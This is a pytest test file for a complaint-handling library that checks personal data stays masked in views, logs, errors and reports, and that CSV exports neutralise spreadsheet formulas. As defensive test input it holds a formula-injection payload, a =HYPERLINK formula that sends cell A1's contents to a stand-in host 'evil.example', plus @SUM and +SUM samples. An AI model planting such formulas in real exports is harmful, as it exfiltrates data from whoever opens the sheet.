"""Personal data stays masked (issue 13, defect 6; PRV-1).

0.1.0 left evidence names and event references unmasked in masked views,
printed free text and bodies in the reprs of intakes, complaints and
notifications, echoed cells (a name shifted into another column) in rejection
lines and access errors, and wrote report cells such as ``=HYPERLINK(…)`` as
spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import datetime, timedelta
from pathlib import Path

import attrs
import pytest
from click.testing import CliRunner, Result

from complaintcore import (
    AccessDeniedError,
    AddMeasure,
    AttachEvidence,
    Complainant,
    CompleteMeasure,
    Desk,
    Escalated,
    Intake,
    MeasureAdded,
    Notification,
    RecordCause,
    Reply,
    Trigger,
)
from complaintcore.cli import main
from complaintcore.testing import RecordingNotifier, make_desk
from tests.helpers import SH
from tests.helpers import intake as _intake

NOW = datetime(2025, 11, 14, 9, 30, tzinfo=SH)
NAME, PHONE, ROOM = "王小明", "13812345678", "3-2-1201"
PHONE_GROUPS = ("138", "1234", "5678")
RECORDING = "录音-13912345678.mp3"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def invoke(*args: str) -> Result:
    return CliRunner().invoke(
        main, ["--lang", "en", *args], env={"COMPLAINTCORE_NOW": "2025-11-14T17:30"}
    )


@pytest.fixture
def desk_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    assert invoke("init", ".").exit_code == 0
    return tmp_path


# --------------------------------------------------------------------------- masked views


@pytest.mark.procedure("PRV-1")
def test_evidence_names_and_event_references_are_masked_where_the_view_masks() -> None:
    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103", evidence=(RECORDING, f"{NAME}的照片.jpg")), now=NOW)
    desk.act(
        c.id,
        AttachEvidence(actor="SR-201", reference=f"通话录音 {PHONE}.amr", note=f"{NAME}提供"),
        now=NOW,
    )
    for viewer in ("SR-202", "SR-402"):  # an engineer, a cleaner: masked views
        view = json.dumps(desk.view(c.id, viewer, now=NOW), ensure_ascii=False)
        for secret in ("13912345678", PHONE, NAME):
            assert secret not in view, (viewer, secret)
    full = json.dumps(desk.view(c.id, "SR-102", now=NOW), ensure_ascii=False)  # customer service
    assert RECORDING in full
    assert PHONE in full


@pytest.mark.procedure("PRV-1")
def test_show_without_as_masks_evidence_and_references(desk_dir: Path) -> None:
    (desk_dir / "in.jsonl").write_text(
        json.dumps(
            {
                "name": NAME,
                "phone": PHONE,
                "room": ROOM,
                "site": "sunrise",
                "summary": "楼上漏水",
                "receiver": "SR-103",
                "channel": "phone",
                "received_at": "2025-11-14T09:00",
            },
            ensure_ascii=False,
        )
        + "\n",
        encoding="utf-8",
    )
    doc = json.loads(invoke("receive", "--file", "in.jsonl", "--json").stdout)
    cid = doc["ids"][0]
    done = invoke("act", cid, "evidence", "--actor", "SR-201", "--reference", RECORDING)
    assert done.exit_code == 0, done.output
    for args in (["show", cid], ["show", cid, "--json"], ["show", cid, "--as", "SR-202"]):
        result = invoke(*args)
        assert result.exit_code == 0, result.output
        assert "13912345678" not in result.stdout
        assert PHONE not in result.stdout


@pytest.mark.procedure("PRV-1")
def test_an_idempotency_key_is_redacted_where_the_view_masks_and_in_list(desk_dir: Path) -> None:
    key = f"wx-{NAME}-{PHONE}-{ROOM}"  # a host's key made from the submission
    receive = ["receive", "--name", NAME, "--phone", PHONE, "--room", ROOM, "--site", "sunrise"]
    receive += ["--summary", "楼上漏水", "--receiver", "SR-103", "--key", key, "--json"]
    cid = json.loads(invoke(*receive).stdout)["id"]
    plain = json.loads(invoke(*receive[:-3], "--key", "wx-8812", "--json").stdout)["id"]
    masked = "wx-王**-*********78-******01"
    for args in (["show", cid, "--json"], ["show", cid, "--as", "SR-202", "--json"]):
        assert json.loads(invoke(*args).stdout)["intake"]["idempotency_key"] == masked
    listed = {r["id"]: r["idempotency_key"] for r in json.loads(invoke("list", "--json").stdout)}
    assert listed == {cid: masked, plain: "wx-8812"}  # a key of no personal data stays
    entitled = json.loads(invoke("show", cid, "--as", "SR-201", "--json").stdout)
    assert entitled["intake"]["idempotency_key"] == key


@pytest.mark.procedure("PRV-1")
def test_a_building_holding_personal_data_is_redacted_where_the_view_masks_and_in_list(
    desk_dir: Path,
) -> None:
    """Review s35A F02: ``--building`` is free text, and ``list --json`` and a masked
    ``show --json`` printed what was typed there.  ``list`` holds the building's key
    (spaces and case dropped), so a name with a space is found in that form too."""
    name = "Margaret Thompson"
    building = f"{name} {PHONE} {ROOM} ｍｔ＠ｑｑ．ｃｏｍ"
    receive = ["receive", "--name", name, "--phone", PHONE, "--room", ROOM, "--site", "sunrise"]
    receive += ["--summary", "楼上漏水", "--receiver", "SR-103", "--json"]
    cid = json.loads(invoke(*receive, "--building", building).stdout)["id"]
    plain = json.loads(invoke(*receive, "--building", "3号楼").stdout)["id"]
    secrets = ("margaret", "thompson", "12345678", "1201", "mt@", "ｍｔ＠")
    for args in (["show", cid, "--json"], ["show", cid, "--as", "SR-202", "--json"]):
        shown = json.loads(invoke(*args).stdout)["intake"]["complainant"]["building"]
        assert shown.startswith("M*"), shown
        assert not [s for s in secrets if s in shown.lower()], shown
    listed = {r["id"]: r["building"] for r in json.loads(invoke("list", "--json").stdout)}
    # a building of no personal data stays readable, as its key (building 3: s49L F01)
    assert listed[plain] == "3"
    assert listed[cid].startswith("m*"), listed[cid]
    assert not [s for s in secrets if s in listed[cid]], listed[cid]
    entitled = json.loads(invoke("show", cid, "--as", "SR-201", "--json").stdout)
    assert entitled["intake"]["complainant"]["building"] == building


@pytest.mark.procedure("PRV-1")
@pytest.mark.procedure("HDL-5")
def test_an_issue_id_typed_as_a_phone_before_it_was_checked_is_masked_in_list_and_show(
    desk_dir: Path,
) -> None:
    """Review s31C F04: ``act … group --issue 13812345678`` stored the owner's phone as
    the issue id, and ``list``, ``list --json`` and a masked ``show`` printed it.
    ``Group`` now refuses it; one stored before is masked wherever personal data is,
    and an issue the desk named (``I-`` and a complaint id) stays readable."""
    from complaintcore import Grouped
    from complaintcore.adapters.sqlite_store import SqliteStore

    receive = ["receive", "--name", NAME, "--phone", PHONE, "--room", ROOM, "--site", "sunrise"]
    receive += ["--summary", "楼上漏水", "--receiver", "SR-103", "--json"]
    cid = json.loads(invoke(*receive).stdout)["id"]
    other = json.loads(invoke(*receive).stdout)["id"]
    refused = invoke("act", cid, "group", "--actor", "SR-201", "--issue", PHONE,
                     "--complainants", "1")  # fmt: skip
    assert refused.exit_code == 1
    assert PHONE not in refused.output
    named = f"I-{other}"  # as the desk names an issue: kept readable
    done = invoke("act", other, "group", "--actor", "SR-201", "--issue", named,
                  "--complainants", "1")  # fmt: skip
    assert done.exit_code == 0, done.output
    with SqliteStore(desk_dir / "complaints.sqlite3") as store:  # as an older desk took it
        c = store.load(cid)
        at = datetime(2025, 11, 14, 17, 45, tzinfo=SH)
        typed = Grouped(at=at, actor="SR-201", issue=PHONE, members=(cid,), complainants=1)
        store.append(cid, c.version, [typed], attrs.evolve(store.row(cid), issue=PHONE))
    masked = "*********78"
    listed = {r["id"]: r["issue"] for r in json.loads(invoke("list", "--json").stdout)}
    assert listed == {cid: masked, other: named}
    table = invoke("list").stdout
    assert PHONE not in table
    assert masked in table
    shown = invoke("show", cid).stdout
    assert PHONE not in shown
    assert f"concentrated issue {masked} (HDL-5)" in shown
    for args in (["show", cid, "--json"], ["show", cid, "--as", "SR-202", "--json"]):
        doc = json.loads(invoke(*args).stdout)
        assert doc["state"]["issue"] == masked
        assert [e["issue"] for e in doc["events"] if e["type"] == "grouped"] == [masked]
    entitled = json.loads(invoke("show", cid, "--as", "SR-201", "--json").stdout)
    assert entitled["state"]["issue"] == PHONE  # the handler sees personal data
    assert json.loads(invoke("show", other, "--json").stdout)["state"]["issue"] == named


@pytest.mark.procedure("PRV-1")
def test_a_phone_holding_the_room_number_is_masked_in_views_and_the_log(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Room 302 inside the complainant's own number typed with spaces and inside the
    spouse's: each reads ``*********89`` / ``*********78`` where the view masks and
    in the log channel, not ``138 ***5 6789`` (s26D F02)."""
    from complaintcore import Complainant, Intake
    from complaintcore.adapters.notify import LogNotifier

    caplog.set_level(logging.INFO, logger="cc.rooms")
    desk = make_desk(notifiers=[LogNotifier("cc.rooms")])
    c = desk.receive(
        Intake(
            complainant=Complainant("王小明", "13830256789", "302", "3", "sunrise"),
            channel="phone",
            received_at=NOW,
            receiver="SR-103",
            site="sunrise",
            summary="楼上漏水，请回电 138 3025 6789 或我爱人 139 3021 5678",
        ),
        now=NOW,
    )
    desk.deliver(NOW)
    masked = desk.view(c.id, "SR-202")["intake"]["summary"]  # an engineer
    assert masked == "楼上漏水，请回电 *********89 或我爱人 *********78"
    logged = " ".join(r.getMessage() for r in caplog.records if r.name == "cc.rooms")
    assert "*********78" in logged
    for group in ("3025", "3021", "6789", "5678", "***5", "***1"):
        assert group not in masked
        assert group not in logged


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize("phone", ["07700 900123", "+44 7700 900123"])
def test_a_one_character_flat_number_is_masked_in_the_log(
    caplog: pytest.LogCaptureFixture, phone: str
) -> None:
    """Flat 7 at Elm Court (review s40B F01): the log channel wrote ``… *********23 7``,
    or with the phone in international form ``… ************37``, where ``show``
    masks the room as ``*``."""
    from zoneinfo import ZoneInfo

    from complaintcore import Complainant, Intake
    from complaintcore.adapters.notify import LogNotifier

    at = datetime(2025, 3, 4, 10, 0, tzinfo=ZoneInfo("Europe/London"))
    caplog.set_level(logging.INFO, logger="cc.flat")
    desk = make_desk(pack="uk-housing-ombudsman-2024", notifiers=[LogNotifier("cc.flat")])
    desk.receive(
        Intake(
            complainant=Complainant("Sam Lee", phone, "7", site="elm-court"),
            channel="phone",
            received_at=at,
            receiver="CS-001",
            site="elm-court",
            summary="Boiler broken since Friday",
        ),
        now=at,
    )
    desk.deliver(at)
    lines = [r.getMessage() for r in caplog.records if r.name == "cc.flat"]
    assert lines
    for line in lines:
        assert "complainant: S****** " in line
        shown = line.split("complainant: ", 1)[1].split("\\n", 1)[0].rstrip("'")
        assert shown.endswith("23 *"), shown  # the phone's last two digits, the room masked
        assert "Sam" not in line
        assert "900123" not in line


# --------------------------------------------------------------------------- reprs


@pytest.mark.procedure("PRV-1")
def test_reprs_show_no_personal_data_or_free_text() -> None:
    desk = make_desk()
    words = "厨房漏水严重，请尽快维修"
    c = desk.receive(
        _intake(
            receiver="SR-103",
            summary=words,
            description=f"联系{NAME} {PHONE}",
            location="3号楼地下室",
            evidence=(RECORDING,),
        ),
        now=NOW,
    )
    c = desk.act(c.id, Reply(actor="SR-201", message=f"已联系{NAME}，明早维修"), now=NOW)
    note = Notification(
        key="k",
        complaint_id=c.id,
        topic="assigned",
        recipient="SR-201",
        subject=f"投诉 {NAME}",
        body=f"业主{NAME}（{PHONE}）反映：{words}",
        created_at=NOW,
        data=(("complainant", NAME),),
    )
    for shown in (repr(c.intake), repr(c), repr(c.events[-1]), repr(note), str(c.intake)):
        for secret in (NAME, PHONE, ROOM, words, "3号楼", "13912345678", "明早维修"):
            assert secret not in shown, (secret, shown[:80])
    assert c.id in repr(c)
    assert "SR-201" in repr(note)


@pytest.mark.procedure("PRV-1")
def test_reprs_and_a_hook_trace_show_no_idempotency_key_or_digest() -> None:
    """A host's key made from the submission is free text: a repr shows its size
    (18 characters here), never its words; a row's matching digests not at all
    (s26D F01)."""
    import pluggy

    from complaintcore import hookimpl
    from complaintcore.desk.plugins import make_plugin_manager

    key = f"wx-{NAME}-{PHONE}"
    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103", idempotency_key=key), now=NOW)
    row = desk.rows()[0]
    assert row.idempotency_key == key
    assert row.complainant_key
    assert row.room_key

    traced: list[str] = []
    pm: pluggy.PluginManager = make_plugin_manager()
    pm.trace.root.setwriter(traced.append)

    class Listener:
        @hookimpl
        def complaintcore_on_events(self, complaint: object, events: object) -> None:
            return None

    pm.register(Listener())
    undo = pm.enable_tracing()
    pm.hook.complaintcore_on_events(complaint=c, events=c.events)
    undo()
    trace = "".join(traced)

    for shown in (repr(c.intake), repr(c), repr(row), trace):
        for secret in (key, NAME, PHONE, row.complainant_key, row.room_key):
            assert secret not in shown, (secret, shown[:120])
    assert "idempotency_key=<18 chars>" in repr(c.intake)
    assert "idempotency_key=<18 chars>" in repr(row)
    assert "complainant_key" not in repr(row)
    assert "room_key" not in repr(row)
    # still useful for debugging: the id, the status and the times
    assert repr(row).startswith(f"ComplaintRow(id={c.id!r}, status='in_handling', received_at=")
    assert c.id in trace


# --------------------------------------------------------------------------- errors


@pytest.mark.procedure("PRV-1")
def test_a_shifted_row_is_rejected_without_echoing_its_cells(desk_dir: Path) -> None:
    # the receiver and channel columns got the complainant's name and phone
    (desk_dir / "in.csv").write_text(
        "name,phone,room,site,summary,receiver,channel,received_at\n"
        f"{NAME},{PHONE},{ROOM},sunrise,楼上漏水,{NAME},{PHONE},2025-11-14T09:00\n"
        f"李四,13900001111,1-1-101,sunrise,噪音,SR-103,{NAME},2025-11-14T09:05\n"
        f"赵五,13900002222,1-1-102,sunrise,噪音,张伟,phone,2025-11-14T09:10\n",
        encoding="utf-8",
    )
    result = invoke("receive", "--file", "in.csv")
    assert result.exit_code == 1
    for secret in (NAME, PHONE, "张伟"):
        assert secret not in result.stdout + result.stderr
    assert result.stdout.count("rejected:") == 3


@pytest.mark.procedure("PRV-1")
def test_a_latin_name_typed_as_an_id_or_a_pack_is_masked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On the English packs every complainant's name is Latin script: looked up as
    an id it is masked as the same word given as --as is (s26D F04)."""
    monkeypatch.chdir(tmp_path)
    assert invoke("init", ".", "--pack", "uk-housing-ombudsman-2024").exit_code == 0
    for args, said in [
        (["show", "Thompson"], "error: no complaint with id 'T*******'"),
        (["show", "Thompson", "--json"], "no complaint with id 'T*******'"),
        (["show", "Margaret.Thompson", "--as", "SR-101"], "with id 'M****************'"),
        (["act", "Flat12B", "assess", "--actor", "SR-201", "--validity", "valid"], "'F******'"),
        (["packs", "show", "Thompson"], "no shipped rule pack 'T*******'; shipped:"),
        (["init", "again", "--pack", f"{NAME}{PHONE}"], "no shipped rule pack '王*************'"),
    ]:
        result = invoke(*args)
        assert result.exit_code == 3, (args, result.output)
        assert said in result.output, (args, result.output)
        for secret in ("Thompson", "Flat12B", NAME, PHONE):
            assert secret not in result.output, args


@pytest.mark.procedure("PRV-1")
def test_a_phone_or_name_typed_as_an_id_or_a_choice_is_not_echoed(desk_dir: Path) -> None:
    receive = ["receive", "--name", NAME, "--phone", PHONE, "--room", ROOM, "--site", "sunrise"]
    receive += ["--summary", "楼上漏水", "--receiver", "SR-103"]
    for args, code, said in [
        (["show", PHONE], 3, "error: no complaint with id '*********78'"),
        (["show", PHONE, "--json"], 3, "no complaint with id '*********78'"),
        (["act", NAME, "assess", "--actor", "SR-201", "--validity", "valid"], 3, "'王**'"),
        (["show", ROOM], 3, "'******01'"),
        ([*receive, "--channel", PHONE], 2, "Invalid value for '--channel': expected one of"),
        (["list", "--status", NAME, "--json"], 2, "expected one of 'new', 'registered'"),
        (["--lang", PHONE, "list"], 2, "Invalid value for '--lang'"),
        (["list", "--limit", PHONE], 2, "'--limit': expected a number from 1 to 1000000."),
        (["outbox", "retry", NAME], 2, "expected a number from 1 to"),
        (["list", "--limit", NAME, "--json"], 2, "expected a number from 1 to 1000000."),
    ]:
        result = invoke(*args)
        assert result.exit_code == code, (args, result.output)
        assert said in result.output, (args, result.output)
        for secret in (NAME, PHONE, ROOM):
            assert secret not in result.output, args


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_stray_words_and_unknown_steps_are_not_echoed(desk_dir: Path, lang: str) -> None:
    """A phone or a name typed with a space and no quotes spills into extra
    arguments, or lands where ``act`` expects its step: counted, never quoted."""
    rest = ["--room", ROOM, "--site", "sunrise", "--summary", "楼上漏水", "--receiver", "SR-103"]
    said = {
        "en": ("got 2 unexpected extra arguments", "got 1 unexpected extra argument", "unknown"),
        "zh": ("多出 2 个参数", "多出 1 个参数", "没有这个"),
    }[lang]
    for args, secrets, expected in [
        (["receive", "--name", NAME, "--phone", "138", "1234", "5678", *rest], ["1234"], said[0]),
        (["receive", "--name", "王", "小明", "--phone", PHONE, *rest, "--json"], ["小明"], said[1]),
        (["list", PHONE], [PHONE], said[1]),
        (["list", PHONE, "--json"], [PHONE], said[1]),
        (["act", "C-20251114-0001", PHONE, "--actor", "SR-201"], [PHONE], said[2]),
        (["act", PHONE, "C-20251114-0001", "--actor", "SR-201", "--json"], [PHONE], said[2]),
        ([PHONE, "list"], [PHONE], said[2]),
    ]:
        result = CliRunner().invoke(
            main, ["--lang", lang, *args], env={"COMPLAINTCORE_NOW": "2025-11-14T17:30"}
        )
        assert result.exit_code == 2, (args, result.output)
        assert expected in result.output, (args, result.output)
        for secret in secrets:
            assert secret not in result.output, (args, result.output)
        if "--json" in args:
            error = json.loads(result.stdout)["error"]
            assert error["code"] == 2
            assert expected in error["message"]
    # an unknown option is named only when it is a near miss of a real one
    said_option = {"en": "unknown option", "zh": "未知选项"}[lang]
    for args in (["list", f"--{PHONE}"], ["list", "--王小明", "--json"]):
        result = CliRunner().invoke(main, ["--lang", lang, *args])
        assert result.exit_code == 2, (args, result.output)
        assert said_option in result.output, (args, result.output)
        assert args[1][2:] not in result.output, (args, result.output)
    assert "--limit" in CliRunner().invoke(main, ["--lang", lang, "list", "--limt", "5"]).output
    # the steps there are, listed instead of the word typed
    result = invoke("act", "C-20251114-0001", PHONE, "--actor", "SR-201")
    assert "unknown step; expected one of acknowledge, add-measure," in result.stderr
    assert "close" in result.stderr


@pytest.mark.procedure("PRV-1")
def test_access_errors_do_not_echo_a_name_given_as_an_actor() -> None:
    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
    with pytest.raises(AccessDeniedError) as err:
        desk.act(c.id, Reply(actor=NAME, message="x"), now=NOW)
    assert NAME not in str(err.value)
    with pytest.raises(AccessDeniedError) as err:
        desk.view(c.id, NAME)
    assert NAME not in str(err.value)


# --------------------------------------------------------------------------- spreadsheets


def test_the_csv_report_writes_no_formula(desk_dir: Path) -> None:
    (desk_dir / "in.jsonl").write_text(
        json.dumps(
            {
                "name": NAME,
                "phone": PHONE,
                "room": ROOM,
                "building": FORMULA,  # no site: the building alone names the group
                "summary": "楼上漏水",
                "receiver": "SR-103",
                "channel": "phone",
                "received_at": "2025-11-14T09:00",
            },
            ensure_ascii=False,
        )
        + "\n",
        encoding="utf-8",
    )
    received = invoke("receive", "--file", "in.jsonl", "--json")
    assert received.exit_code == 0, received.output
    cid = json.loads(received.stdout)["ids"][0]
    handler = json.loads(invoke("show", cid, "--json").stdout)["events"][-1]["handler"]
    assert invoke("act", cid, "assess", "--actor", handler, "--validity", "valid").exit_code == 0
    result = invoke("report", "--month", "2025-11", "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the building is reported ...
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]
    # ... as text, quoted once: the library's rows are safe and the CLI adds nothing
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith("''")]


@pytest.mark.procedure("PRV-1")
def test_a_building_typed_with_name_phone_and_room_is_redacted_in_every_report_format(
    desk_dir: Path,
) -> None:
    """docs/security.md: the exports carry no names, phones or rooms; the report
    shows the typed building redacted as ``list --json`` does (review s41B F01)."""
    typed = f"{ROOM} {NAME} {PHONE}"
    received = invoke(
        "receive", "--json", "--receiver", "SR-103", "--name", NAME, "--phone", PHONE,
        "--room", ROOM, "--building", typed, "--site", "sunrise", "--summary", "楼上漏水",
        "--received-at", "2025-11-14T09:10",
    )  # fmt: skip
    assert received.exit_code == 0, received.output
    cid = json.loads(received.stdout)["id"]
    handler = json.loads(invoke("show", cid, "--json").stdout)["events"][-1]["handler"]
    assert invoke("act", cid, "assess", "--actor", handler, "--validity", "valid").exit_code == 0
    listed = json.loads(invoke("list", "--json").stdout)[0]["building"]
    for fmt in ("csv", "html", "json", "table"):
        result = invoke("report", "--month", "2025-11", "--format", fmt)
        assert result.exit_code == 0, result.output
        for personal in (NAME, PHONE, ROOM, *PHONE_GROUPS):
            assert personal not in result.stdout, (fmt, personal)
        if fmt in ("csv", "json"):
            assert f"sunrise/{listed}" in result.stdout  # the key, as list --json shows it


def test_the_documented_csv_recipe_writes_no_formula() -> None:
    """docs/statistics.md "Exports": a host writes ``to_rows(report)`` with
    ``csv.DictWriter`` and nothing else; a building typed as a formula at a
    site-less intake is written as text (review s25D F03)."""
    from complaintcore import Complainant, Intake, to_rows
    from complaintcore.core.stats import ROW_FIELDS

    desk = make_desk()
    person = Complainant(NAME, PHONE, ROOM, building=FORMULA)
    desk.receive(
        Intake(complainant=person, channel="web", received_at=NOW, receiver="SR-103",
               summary="楼上漏水", site=""),
        now=NOW,
        validity="valid",
    )  # fmt: skip
    report = desk.monthly_report(2025, 11, now=NOW + timedelta(days=20))
    rows = to_rows(report)
    (building,) = [r for r in rows if r["section"] == "by_building"]
    labels = [building[k] for k in ("label_zh", "label_en", "label")]
    assert labels == ["'" + FORMULA] * 3  # as typed; the key as matched (F02), text too
    assert building["key"] == "'" + "".join(FORMULA.casefold().split())
    assert building["value"] == 1
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    cells = [cell for row in csv.reader(io.StringIO(buffer.getvalue())) for cell in row]
    assert tuple(rows[0]) == ROW_FIELDS
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]


def test_indicator_rows_write_no_formula() -> None:
    """A host pack's indicator labels are text: ``indicator_rows`` quotes them itself."""
    import attrs

    from complaintcore import calendar_for_spec, indicator_report, indicator_rows, load_pack

    pack = load_pack("uk-housing-ombudsman-2024")
    report = indicator_report(
        [], pack, calendar_for_spec(pack.calendar), period="2025", now=NOW + timedelta(days=400)
    )
    risky = attrs.evolve(
        report, values=tuple(attrs.evolve(v, zh=FORMULA, en="@SUM(A1)") for v in report.values)
    )
    rows = indicator_rows(risky)
    assert rows
    assert {(r["label_zh"], r["label_en"], r["label"]) for r in rows} == {
        ("'" + FORMULA, "'@SUM(A1)", "'@SUM(A1)")
    }


def test_the_indicator_csv_writes_no_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Labels of a pack's indicators come from a pack file: text like any other."""
    import complaintcore.core.indicators as module

    monkeypatch.chdir(tmp_path)
    assert invoke("init", ".", "--pack", "uk-housing-ombudsman-2024").exit_code == 0
    real = module.indicator_rows

    def with_a_formula(report: object) -> list[dict[str, object]]:
        rows = real(report)  # type: ignore[arg-type]
        return [{**row, "label": FORMULA, "label_en": "@SUM(A1)"} for row in rows]

    monkeypatch.setattr(module, "indicator_rows", with_a_formula)
    result = invoke("report", "--period", "2025", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    assert {(r["label"], r["label_en"]) for r in rows} == {("'" + FORMULA, "'@SUM(A1)")}


def test_the_staff_table_csv_writes_no_formula(
    desk_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Staff ids come from a staff file: text like any other (PEN-1's per-staff rows)."""
    import complaintcore.cli.report as module

    real = module.staff_rows

    def with_a_formula(staff: object) -> list[dict[str, object]]:
        rows = real(staff)  # type: ignore[arg-type]
        row = {"period": "2025-11", "section": "staff", "metric": "points", "value": 3}
        return [*rows, {**row, "key": FORMULA, "label": "+SUM(A1)", "detail": "-x"}]

    monkeypatch.setattr(module, "staff_rows", with_a_formula)
    result = invoke("report", "--month", "2025-11", "--staff", "--format", "csv")
    assert result.exit_code == 0, result.output
    staff = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["section"] == "staff"]
    assert [(r["key"], r["label"], r["detail"], r["value"]) for r in staff] == [
        ("'" + FORMULA, "'+SUM(A1)", "'-x", "3")
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_spreadsheet_rule_itself() -> None:
    from complaintcore import spreadsheet_safe

    assert spreadsheet_safe(FORMULA) == "'" + FORMULA
    for risky in ("+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"):
        assert spreadsheet_safe(risky) == "'" + risky
    for plain in ("楼上漏水", "-5", "+3.5", "C-20251114-0001", "", "a=b"):
        assert spreadsheet_safe(plain) == plain
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(None) is None


def test_log_of_a_notifier_shows_no_body(caplog: pytest.LogCaptureFixture) -> None:
    notes = RecordingNotifier()
    desk = make_desk(notifiers=[notes])
    caplog.set_level("DEBUG")
    c = desk.receive(_intake(receiver="SR-103", summary=f"请{NAME}回电 {PHONE}"), now=NOW)
    desk.deliver(NOW)
    assert notes.sent
    assert PHONE not in caplog.text
    assert NAME not in caplog.text
    assert c.id


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize(
    "written",
    [
        "138.1234.5678",
        "138/1234/5678",
        "138\u20131234\u20135678",
        "Tel13912345678",
        "1 3 8 1 2 3 4 5 6 7 8",
    ],
)
def test_a_phone_written_any_way_in_the_summary_is_masked_where_the_view_masks(
    written: str,
) -> None:
    """Dots, slashes, dashes, letters glued on or digits spelled out do not unmask it."""
    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103", summary=f"楼上漏水 请回电{written}"), now=NOW)
    shown = json.dumps(desk.view(c.id, "SR-202", now=NOW), ensure_ascii=False)
    assert written not in shown
    assert "5678" not in shown
    assert "*********78" in shown


@pytest.mark.procedure("PRV-1")
@pytest.mark.procedure("IMP-1")
def test_causes_and_measures_are_redacted_where_the_view_masks() -> None:
    """What a handler writes about the cause and the measures is free text like a reply."""
    desk = make_desk()
    c = desk.receive(_intake(receiver="SR-103"), now=NOW)
    handler = "SR-201"
    desk.act(
        c.id,
        RecordCause(
            actor=handler,
            cause=f"{NAME}家立管老化",
            corrective=f"回电 {PHONE}",
            preventive=f"{ROOM} 年检",
        ),
        now=NOW,
    )
    due = NOW + timedelta(days=10)
    desk.act(
        c.id,
        AddMeasure(
            actor=handler, kind="corrective", action=f"联系{NAME}更换", owner="sr-201 ", due=due
        ),
        now=NOW,
    )
    done = desk.act(
        c.id, CompleteMeasure(actor=handler, measure="M1", result=f"已告知 {PHONE}"), now=NOW
    )
    added = [e for e in done.events if isinstance(e, MeasureAdded)]
    assert [m.owner for m in added] == ["SR-201"]  # the owner's id resolved as a handler's is
    for viewer in ("SR-202", "SR-402"):  # an engineer, a cleaner: masked views
        view = desk.view(c.id, viewer, now=NOW)
        shown = json.dumps(view, ensure_ascii=False)
        for secret in (NAME, PHONE, ROOM):
            assert secret not in shown, (viewer, secret)
        kinds = [e["type"] for e in view["events"]]
        assert {"cause_analysed", "measure_added", "measure_done"} <= set(kinds)
        measure = next(e for e in view["events"] if e["type"] == "measure_added")
        assert (measure["measure"], measure["owner"]) == ("M1", "SR-201")  # ids stay readable
    full = json.dumps(desk.view(c.id, "SR-102", now=NOW), ensure_ascii=False)  # customer service
    assert f"{NAME}家立管老化" in full


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize("separator", ["\u200b", "\u00ad", "\u2060"])
def test_a_phone_split_by_an_invisible_character_is_masked_in_views_and_notifications(
    separator: str,
) -> None:
    """Zero-width space, soft hyphen, word joiner between the groups are not drawn:
    the reader would see 13924681357 and the complainant's own number (s27N F05)."""
    desk = make_desk()
    neighbour, own = (separator.join(groups) for groups in (("139", "2468", "1357"), PHONE_GROUPS))
    summary = f"楼上漏水，邻居电话{neighbour}，我的电话{own}"
    c = desk.receive(_intake(receiver="SR-103", summary=summary), now=NOW)
    masked = desk.view(c.id, "SR-202", now=NOW)["intake"]["summary"]  # an engineer
    assert masked == "楼上漏水，邻居电话*********57，我的电话*********78"
    note = desk.messages.render(
        c, "assigned", desk.directory.get("SR-202"), desk.pack, at=NOW, discriminator="x"
    )
    assert "摘要：楼上漏水，邻居电话*********57，我的电话*********78" in note.body


@pytest.mark.procedure("PRV-1")
@pytest.mark.parametrize("written", ["MARGARET THOMPSON", "margaret thompson"])
def test_a_name_in_another_letter_case_is_masked_in_views_the_log_and_notifications(
    written: str, caplog: pytest.LogCaptureFixture
) -> None:
    """The masked view, the log channel and a message to someone who need not see
    personal data all mask the registered name in capitals or lower case, as they
    mask it as registered (review s31C F06)."""
    from complaintcore.adapters.notify import LogNotifier

    caplog.set_level(logging.INFO, logger="cc.case")
    desk = make_desk(notifiers=[LogNotifier("cc.case")])
    c = desk.receive(
        _owner_says("Margaret Thompson", ROOM, f"{written} says the lift is broken"),
        now=NOW,
    )
    desk.deliver(NOW)
    shown = f"{written[0]}**************** says the lift is broken"  # 17 characters
    assert desk.view(c.id, "SR-202", now=NOW)["intake"]["summary"] == shown  # an engineer
    logged = " ".join(r.getMessage() for r in caplog.records if r.name == "cc.case")
    assert logged
    assert written not in logged
    note = desk.messages.render(
        c, "assigned", desk.directory.get("SR-202"), desk.pack, at=NOW, discriminator="x"
    )
    assert f"摘要：{shown}" in note.body


def _typed_escalation(clock: str) -> Escalated:
    """An escalation by SR-201 whose ``clock`` was typed before ``decide`` checked it."""
    return Escalated(
        at=NOW,
        actor="SR-201",
        from_rung="front_line",
        to_rung="complaint_handler",
        trigger=Trigger.DEADLINE_MISSED,
        clock=clock,
    )


@pytest.mark.procedure("PRV-1")
